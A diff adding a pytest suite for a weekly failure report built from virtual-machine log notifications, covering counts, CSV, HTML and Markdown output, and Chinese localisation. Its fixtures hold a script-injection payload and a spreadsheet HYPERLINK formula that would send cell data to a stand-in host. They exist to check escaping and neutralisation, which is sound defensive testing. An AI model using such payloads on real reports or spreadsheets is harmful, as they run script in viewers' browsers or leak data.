@@ -1,0 +1,445 @@
+"""Tests of the weekly failure report, on built frames and on the larger sample."""
+
+from __future__ import annotations
+
+import csv
+import re
+from collections import Counter
+from datetime import date, timedelta
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from conftest import COLLISION, SAMPLES, SEED_ROWS, build_notifications
+
+import logparse
+from logparse import weekly
+from logparse.errors import NoNotificationsError
+
+WEEKS_SAMPLE = SAMPLES / "sunstone-weeks.txt"
+SAMPLE_WEEK = "2014-W41"
+
+SCRIPT = '<script>alert("owned")</script> VM has to be RUNNING to snapshot disks.'
+HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1, "open")'
+
+# ---------------------------------------------------------------------------
+# Counts computed from the sample text with plain regular expressions, apart
+# from the parser and analytics.
+
+RECORD = re.compile(
+    r"content:\s*(?P<content>.*?)\s*,\s*creator:\s*(?P<creator>[^,]+?)\s*,"
+    r"\s*date:\s*(?P<date>\d{4}-\d{2}-\d{2})\s*,\s*time:\s*(?P<time>\d{2}:\d{2}:\d{2})\s*,"
+    r"\s*type:\s*(?P<type>\w+)",
+    re.DOTALL,
+)
+
+#: Message shapes that belong to one cause only, by cause id.
+CAUSE_PATTERNS = {
+    "name_collision": re.compile(r"NAME is already taken by"),
+    "lease_unavailable": re.compile(r"Cannot get IP/MAC lease"),
+    "quota_exceeded": re.compile(r"limit of \d+ reached for \w+ quota"),
+    "datastore_full": re.compile(r"Not enough space in datastore"),
+}
+
+
+def _sample_records() -> list[dict[str, str]]:
+    text = WEEKS_SAMPLE.read_text(encoding="utf-8")
+    return [match.groupdict() for match in RECORD.finditer(text)]
+
+
+def _week_days(week: str) -> list[date]:
+    year, number = week.split("-W")
+    monday = date.fromisocalendar(int(year), int(number), 1)
+    return [monday + timedelta(days=offset) for offset in range(7)]
+
+
+def _in_days(records: list[dict[str, str]], days: list[date]) -> list[dict[str, str]]:
+    wanted = {day.isoformat() for day in days}
+    return [record for record in records if record["date"] in wanted]
+
+
+def _cause_count(records: list[dict[str, str]], cause: str) -> int:
+    return sum(1 for record in records if CAUSE_PATTERNS[cause].search(record["content"]))
+
+
+def _expected_status(this_week: int, last_week: int, earlier: int) -> str | None:
+    if this_week and last_week:
+        return "ongoing"
+    if this_week and earlier:
+        return "regressed"
+    if this_week:
+        return "new"
+    if last_week:
+        return "gone"
+    return None
+
+
+@pytest.fixture(scope="module")
+def sample_frame() -> pd.DataFrame:
+    return logparse.read_log(WEEKS_SAMPLE)
+
+
+@pytest.fixture(scope="module")
+def sample_report(sample_frame) -> weekly.WeeklyReport:
+    return weekly.build_weekly_report(sample_frame, week=SAMPLE_WEEK)
+
+
+@pytest.fixture(scope="module")
+def sample_counts() -> dict[str, object]:
+    records = [record for record in _sample_records() if record["type"] == "ERROR_MSG"]
+    days = _week_days(SAMPLE_WEEK)
+    previous_days = [day - timedelta(days=7) for day in days]
+    this_week = _in_days(records, days)
+    last_week = _in_days(records, previous_days)
+    earlier = [record for record in records if record["date"] < previous_days[0].isoformat()]
+    return {
+        "all": records,
+        "this_week": this_week,
+        "last_week": last_week,
+        "earlier": earlier,
+        "days": Counter(record["date"] for record in this_week),
+        "creators": Counter(record["creator"] for record in this_week),
+    }
+
+
+# ---------------------------------------------------------------------------
+# The larger sample, against the regular expression counts
+
+
+def test_sample_week_has_failures(sample_counts) -> None:
+    # Guards the checks below against passing on an empty week.
+    assert len(sample_counts["this_week"]) > 100
+    assert len(sample_counts["last_week"]) > 100
+
+
+def test_sample_week_total(sample_report, sample_counts) -> None:
+    assert sample_report.failures == len(sample_counts["this_week"])
+
+
+def test_sample_previous_week_total(sample_report, sample_counts) -> None:
+    headline = sample_report.headline
+
+    assert headline.loc["metric_failures", "previous_week"] == len(sample_counts["last_week"])
+
+
+def test_sample_daily_counts(sample_report, sample_counts) -> None:
+    daily = sample_report.daily.sum(axis=1)
+    by_day = {day.date().isoformat(): int(count) for day, count in daily.items()}
+    expected = {
+        day.isoformat(): sample_counts["days"][day.isoformat()] for day in _week_days(SAMPLE_WEEK)
+    }
+
+    assert by_day == expected
+
+
+@pytest.mark.parametrize("cause", sorted(CAUSE_PATTERNS))
+def test_sample_cause_counts(sample_report, sample_counts, cause: str) -> None:
+    table = sample_report.by_cause_state
+    reported = int(table.loc[table["cause"] == cause, "count"].sum())
+
+    assert reported == _cause_count(sample_counts["this_week"], cause)
+
+
+@pytest.mark.parametrize("cause", sorted(CAUSE_PATTERNS))
+def test_sample_cause_status(sample_report, sample_counts, cause: str) -> None:
+    expected = _expected_status(
+        _cause_count(sample_counts["this_week"], cause),
+        _cause_count(sample_counts["last_week"], cause),
+        _cause_count(sample_counts["earlier"], cause),
+    )
+    table = sample_report.week_over_week.set_index("cause")
+    reported = table["status"].get(cause)
+
+    assert reported == expected
+
+
+def test_sample_top_creators(sample_report, sample_counts) -> None:
+    top = sample_report.top_creators
+    reported = dict(zip(top["creator"], top["count"], strict=True))
+
+    assert reported == dict(sample_counts["creators"])
+
+
+def test_sample_health(sample_report, sample_counts) -> None:
+    text = WEEKS_SAMPLE.read_text(encoding="utf-8")
+
+    assert sample_report.health["lines"] == len(text.splitlines())
+    assert sample_report.health["notifications"] == len(sample_counts["all"])
+    assert sample_report.health["failures_week"] == len(sample_counts["this_week"])
+
+
+def test_sample_files(sample_frame, sample_counts, tmp_path) -> None:
+    paths = weekly.write_weekly_report(sample_frame, week=SAMPLE_WEEK, output_dir=tmp_path)
+    with paths.csv.open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.DictReader(file))
+    collisions = sum(int(row["count"]) for row in rows if row["cause"] == "name_collision")
+    total = len(sample_counts["this_week"])
+    previous = len(sample_counts["last_week"])
+
+    assert sum(int(row["count"]) for row in rows) == total
+    assert collisions == _cause_count(sample_counts["this_week"], "name_collision")
+    assert f"| Failures | {total:,} | {previous:,} |" in paths.markdown.read_text(encoding="utf-8")
+    assert f'<div class="lp-value">{total:,}</div>' in paths.html.read_text(encoding="utf-8")
+
+
+def test_sample_default_week(sample_frame) -> None:
+    # The sample ends on a Sunday, so its last week is complete.
+    last = sample_frame["timestamp"].max()
+    report = weekly.build_weekly_report(sample_frame)
+
+    assert last.isoweekday() == 7
+    assert report.week == "{}-W{:02d}".format(*last.isocalendar()[:2])
+
+
+def test_sample_chinese(sample_report, sample_frame) -> None:
+    report = weekly.build_weekly_report(sample_frame, week=SAMPLE_WEEK, lang="zh-CN")
+    html = report.to_html()
+
+    assert report.failures == sample_report.failures
+    assert '<html lang="zh-CN">' in html
+    assert "核心指标" in html
+
+
+# ---------------------------------------------------------------------------
+# Files and layout
+
+
+@pytest.fixture
+def hostile_frame() -> pd.DataFrame:
+    rows = [
+        *SEED_ROWS,
+        {
+            "timestamp": "2014-09-19 09:00:00",
+            "message": SCRIPT,
+            "cause": "unknown",
+            "template": SCRIPT,
+            "creator": "ops2 | admin",
+        },
+        {
+            "timestamp": "2014-09-19 09:30:00",
+            "message": HYPERLINK,
+            "cause": "not_authorized",
+            "template": HYPERLINK,
+            "creator": "@dev1",
+        },
+    ]
+    return build_notifications(rows)
+
+
+def test_write_file_names(seed_frame, tmp_path) -> None:
+    paths = weekly.write_weekly_report(seed_frame, week="2014-W38", output_dir=tmp_path / "out")
+    names = sorted(path.name for path in (tmp_path / "out").iterdir())
+
+    assert names == [
+        "failures-2014-W38-causes.png",
+        "failures-2014-W38-daily.png",
+        "failures-2014-W38.csv",
+        "failures-2014-W38.html",
+        "failures-2014-W38.md",
+    ]
+    assert paths.html == tmp_path / "out" / "failures-2014-W38.html"
+    assert len(paths.charts) == 2
+
+
+def test_html_escapes_script(hostile_frame) -> None:
+    html = weekly.build_weekly_report(hostile_frame, week="2014-W38").to_html()
+
+    assert "<script" not in html
+    assert "&lt;script&gt;alert(&#34;owned&#34;)&lt;/script&gt;" in html
+    assert "ops2 | admin" in html
+
+
+def test_html_self_contained(hostile_frame) -> None:
+    html = weekly.build_weekly_report(hostile_frame, week="2014-W38").to_html()
+    sources = re.findall(r'(?:src|href)="([^"]*)"', html)
+
+    assert sources
+    assert [source for source in sources if not source.startswith(("data:image/png", "#"))] == []
+    assert "default-src 'none'" in html
+    assert "<link" not in html
+
+
+def test_markdown_escapes_text(hostile_frame) -> None:
+    markdown = weekly.build_weekly_report(hostile_frame, week="2014-W38").to_markdown()
+
+    assert "<script" not in markdown
+    assert "&lt;script&gt;" in markdown
+    assert r"ops2 \| admin" in markdown
+
+
+def test_markdown_tables_keep_columns(hostile_frame) -> None:
+    markdown = weekly.build_weekly_report(hostile_frame, week="2014-W38").to_markdown()
+    tables = re.findall(r"(?:^\|.*\n)+", markdown, flags=re.MULTILINE)
+    uneven = []
+    for table in tables:
+        pipes = {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}
+        if len(pipes) != 1:
+            uneven.append(table)
+
+    assert len(tables) >= 8
+    assert uneven == []
+
+
+def test_markdown_links_charts(seed_frame) -> None:
+    markdown = weekly.build_weekly_report(seed_frame, week="2014-W38").to_markdown()
+
+    assert "(failures-2014-W38-daily.png)" in markdown
+    assert "data:image" not in markdown
+
+
+def test_csv_neutralizes_hyperlink(hostile_frame, tmp_path) -> None:
+    paths = weekly.write_weekly_report(hostile_frame, week="2014-W38", output_dir=tmp_path)
+    with paths.csv.open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.DictReader(file))
+    examples = [row["example"] for row in rows if row["cause"] == "not_authorized"]
+
+    assert examples == ["'" + HYPERLINK]
+    assert not any(row["example"].startswith("=") for row in rows)
+
+
+def test_csv_columns(seed_frame, tmp_path) -> None:
+    paths = weekly.write_weekly_report(seed_frame, week="2014-W38", output_dir=tmp_path)
+    with paths.csv.open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.DictReader(file))
+
+    assert list(rows[0]) == [
+        "cause",
+        "description",
+        "vm_state",
+        "count",
+        "first_seen",
+        "last_seen",
+        "example",
+        "hint",
+    ]
+    assert rows[0]["cause"] == "name_collision"
+    assert rows[0]["count"] == "7"
+    assert rows[0]["example"] == COLLISION
+    assert rows[1]["vm_state"] == "not RUNNING/POWEROFF/SUSPENDED"
+
+
+# ---------------------------------------------------------------------------
+# Content
+
+
+def test_seed_headline(seed_frame) -> None:
+    report = weekly.build_weekly_report(seed_frame, week="2014-W38")
+    headline = report.headline["this_week"]
+
+    assert headline["metric_failures"] == 12
+    assert headline["metric_incidents"] == 3
+    assert headline["metric_causes"] == 2
+    assert headline["metric_objects"] == 1
+    assert headline["metric_creators"] == 1
+
+
+def test_seed_hints(seed_frame) -> None:
+    report = weekly.build_weekly_report(seed_frame, week="2014-W38")
+    html = report.to_html()
+
+    assert set(report.hints) == {"name_collision", "invalid_vm_state"}
+    assert "delete or rename the object that holds it" in html
+
+
+def test_chinese_report(seed_frame, tmp_path) -> None:
+    paths = weekly.write_weekly_report(
+        seed_frame, week="2014-W38", output_dir=tmp_path, lang="zh-CN"
+    )
+    html = paths.html.read_text(encoding="utf-8")
+    markdown = paths.markdown.read_text(encoding="utf-8")
+
+    for heading in ("2014-W38 故障周报", "核心指标", "每日故障数", "按原因和虚拟机状态统计"):
+        assert heading in html
+        assert heading in markdown
+    assert "非 RUNNING/POWEROFF/SUSPENDED" in html
+    assert "删除、重命名占用该名称的对象" in html
+
+
+def test_chinese_csv_keeps_ids(seed_frame, tmp_path) -> None:
+    paths = weekly.write_weekly_report(
+        seed_frame, week="2014-W38", output_dir=tmp_path, lang="zh-CN"
+    )
+    with paths.csv.open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.DictReader(file))
+
+    assert rows[0]["cause"] == "name_collision"
+    assert "重命名" in rows[0]["hint"]
+
+
+def test_week_without_failures(seed_frame, tmp_path) -> None:
+    paths = weekly.write_weekly_report(seed_frame, week="2014-W39", output_dir=tmp_path)
+    html = paths.html.read_text(encoding="utf-8")
+    markdown = paths.markdown.read_text(encoding="utf-8")
+
+    assert "No failures in 2014-W39." in html
+    assert "**No failures in 2014-W39.**" in markdown
+    assert "gone" in html
+    assert paths.csv.read_text(encoding="utf-8-sig").splitlines()[0].startswith("cause,")
+    assert len(paths.csv.read_text(encoding="utf-8-sig").splitlines()) == 1
+
+
+def test_week_without_failures_chinese(seed_frame) -> None:
+    html = weekly.build_weekly_report(seed_frame, week="2014-W39", lang="zh-CN").to_html()
+
+    assert "2014-W39 没有故障。" in html
+
+
+def test_default_week_partial(seed_frame) -> None:
+    assert weekly.build_weekly_report(seed_frame).week == "2014-W38"
+
+
+def test_week_normalized(seed_frame) -> None:
+    assert weekly.build_weekly_report(seed_frame, week="2014W38").week == "2014-W38"
+
+
+@pytest.mark.parametrize(
+    ("options", "match"),
+    [
+        ({"week": "2014-38"}, "invalid ISO week"),
+        ({"lang": "fr"}, "unsupported language"),
+    ],
+)
+def test_rejects_options(seed_frame, options: dict[str, str], match: str) -> None:
+    with pytest.raises(ValueError, match=match):
+        weekly.build_weekly_report(seed_frame, **options)
+
+
+def test_notebook_fragment(seed_frame) -> None:
+    fragment = weekly.build_weekly_report(seed_frame, week="2014-W38")._repr_html_()
+
+    assert fragment.lstrip().startswith('<div class="logparse-weekly"')
+    assert "<html" not in fragment
+
+
+# ---------------------------------------------------------------------------
+# Inputs with nothing to report
+
+
+def test_no_notifications_error(tmp_path: Path) -> None:
+    path = tmp_path / "requests.txt"
+    path.write_text(
+        '磁盘快照\n\n{"action":{"perform":"saveas","params":{"disk_id":"1"}}}:\n', encoding="utf-8"
+    )
+    df = logparse.read_log(path)
+
+    with pytest.raises(NoNotificationsError, match="no notification records in the input"):
+        weekly.write_weekly_report(df, output_dir=tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+def test_undated_notifications_error(make_notifications, tmp_path) -> None:
+    df = make_notifications([{"message": COLLISION, "timestamp": None}])
+
+    with pytest.raises(NoNotificationsError, match="none of the 1 notifications has a date"):
+        weekly.write_weekly_report(df, output_dir=tmp_path)
+
+
+def test_undated_failures_in_health(make_notifications) -> None:
+    df = make_notifications(
+        [*SEED_ROWS, {"message": COLLISION, "timestamp": None, "cause": "name_collision"}]
+    )
+    report = weekly.build_weekly_report(df, week="2014-W38")
+
+    assert report.health["undated"] == 1
+    assert report.health["failures_total"] == 13
+    assert report.failures == 12
